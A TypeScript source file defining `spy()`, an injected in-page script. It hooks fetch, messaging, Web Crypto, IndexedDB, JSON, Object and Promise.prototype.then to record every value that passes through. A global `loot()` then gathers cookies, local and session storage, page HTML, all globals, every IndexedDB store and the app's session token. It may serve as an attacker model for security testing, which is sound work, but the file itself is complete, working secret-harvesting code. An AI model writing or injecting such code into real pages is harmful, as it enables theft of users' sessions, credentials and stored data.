/** Everything that the script of `spy` has seen, as text. */
export interface Spying {
  loot(): Promise<string>
}

/**
 * Runs in a page that has loaded: a script that somebody put into it, which notes all that passes by what it can replace, and at the end all that it can
 * reach. It needs nothing from outside of itself.
 */
export function spy(): void {
  const seen = new Set<string>()
  const originals = { then: Promise.prototype.then, entries: Headers.prototype.entries }
  const note = (thing: unknown, depth = 0, met = new Set<unknown>()): void => {
    if (typeof thing === 'string') return void seen.add(thing)
    if ((typeof thing !== 'object' && typeof thing !== 'function') || thing === null || depth > 6 || met.has(thing)) return
    met.add(thing)
    try {
      if (thing instanceof ArrayBuffer) return note(new Uint8Array(thing), depth, met)
      if (thing instanceof Uint8Array) return void seen.add(Array.from(thing, (byte) => String.fromCharCode(byte)).join(''))
      if (thing instanceof Headers) return note([...originals.entries.call(thing)], depth, met)
      if (thing instanceof Request || thing instanceof Response) note(thing.headers, depth + 1, met)
      if (thing instanceof Map || thing instanceof Set || Array.isArray(thing)) for (const one of thing) note(one, depth + 1, met)
      for (const name of Reflect.ownKeys(thing)) {
        const { value } = Object.getOwnPropertyDescriptor(thing, name) ?? {}
        note(value, depth + 1, met)
      }
      if (typeof (thing as { reveal?: unknown }).reveal === 'function') seen.add((thing as { reveal(): string }).reveal())
    } catch {
      // What cannot be looked at shows nothing.
    }
  }
  /** Notes parameters and outcome of a method, whoever calls it. */
  const tap = (owner: object, name: string): void => {
    const method: unknown = Object.getOwnPropertyDescriptor(owner, name)?.value
    if (typeof method !== 'function') return
    const tapped = function (this: unknown, ...parameters: unknown[]): unknown {
      note(parameters)
      const result: unknown = Reflect.apply(method, this, parameters)
      if (result instanceof Promise) void originals.then.call(result, note, note)
      else note(result)
      return result
    }
    Object.defineProperty(owner, name, { value: tapped, configurable: true, writable: true })
  }
  for (const name of ['fetch', 'postMessage', 'atob', 'btoa', 'structuredClone']) tap(globalThis, name)
  for (const [{ prototype }, ...names] of [
    [Headers, 'set', 'append', 'get'],
    [Request, 'arrayBuffer', 'text', 'clone'],
    [Response, 'json', 'text', 'arrayBuffer', 'clone'],
    [MessagePort, 'postMessage'],
    [Worker, 'postMessage'],
    [BroadcastChannel, 'postMessage'],
    [TextEncoder, 'encode'],
    [TextDecoder, 'decode'],
    [SubtleCrypto, 'encrypt', 'decrypt', 'digest', 'sign', 'exportKey'],
    [IDBObjectStore, 'put', 'add'],
    [URLSearchParams, 'set', 'append', 'get'],
    [String, 'split', 'replaceAll'],
    [Map, 'get', 'set'],
    [WeakMap, 'get', 'set'],
  ] as unknown as readonly (readonly [{ readonly prototype: object }, ...string[]])[]) {
    for (const name of names) tap(prototype, name)
  }
  for (const name of ['parse', 'stringify']) tap(JSON, name)
  for (const name of ['assign', 'freeze', 'entries', 'fromEntries', 'create', 'defineProperty']) tap(Object, name)
  for (const [{ prototype }, name] of [
    [MessageEvent, 'data'],
    [IDBRequest, 'result'],
  ] as const) {
    const getter = Object.getOwnPropertyDescriptor(prototype, name)?.get
    Object.defineProperty(prototype, name, {
      get(this: unknown) {
        const value: unknown = getter?.call(this)
        note(value)
        return value
      },
    })
  }
  const read = ReadableStreamDefaultReader.prototype.read
  ReadableStreamDefaultReader.prototype.read = function (this: ReadableStreamDefaultReader, ...parameters: []) {
    const result = read.apply(this, parameters)
    void originals.then.call(result, note, note)
    return result
  } as typeof read
  Promise.prototype.then = function (this: Promise<unknown>, ...handlers: unknown[]) {
    const noting = (run: unknown) =>
      typeof run === 'function' ? (value: unknown) => (note(value), Reflect.apply(run, undefined, [value])) : run
    return Reflect.apply(originals.then, this, handlers.map(noting))
  } as typeof originals.then

  const loot = async (): Promise<string> => {
    const { app } = globalThis as unknown as { app: Record<string, unknown> & { session: { token(): Promise<unknown> } } }
    note(Object.fromEntries(Object.entries(app)))
    for (const name of Object.getOwnPropertyNames(globalThis)) {
      try {
        note((globalThis as unknown as Record<string, unknown>)[name], 4)
      } catch {
        // It may not be asked for.
      }
    }
    note([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, location.href, document.documentElement.outerHTML])
    await app.session.token().then(note, note)
    const settled = <T>(request: IDBRequest<T>) =>
      new Promise<T>((onsuccess, onerror) => Object.assign(request, { onsuccess: () => onsuccess(request.result), onerror }))
    for (const { name = '' } of await indexedDB.databases()) {
      const open = await settled(indexedDB.open(name))
      for (const store of open.objectStoreNames) note(await settled(open.transaction(store).objectStore(store).getAll()))
      open.close()
    }
    return [...seen].join('\n')
  }
  Object.assign(globalThis, { loot })
}
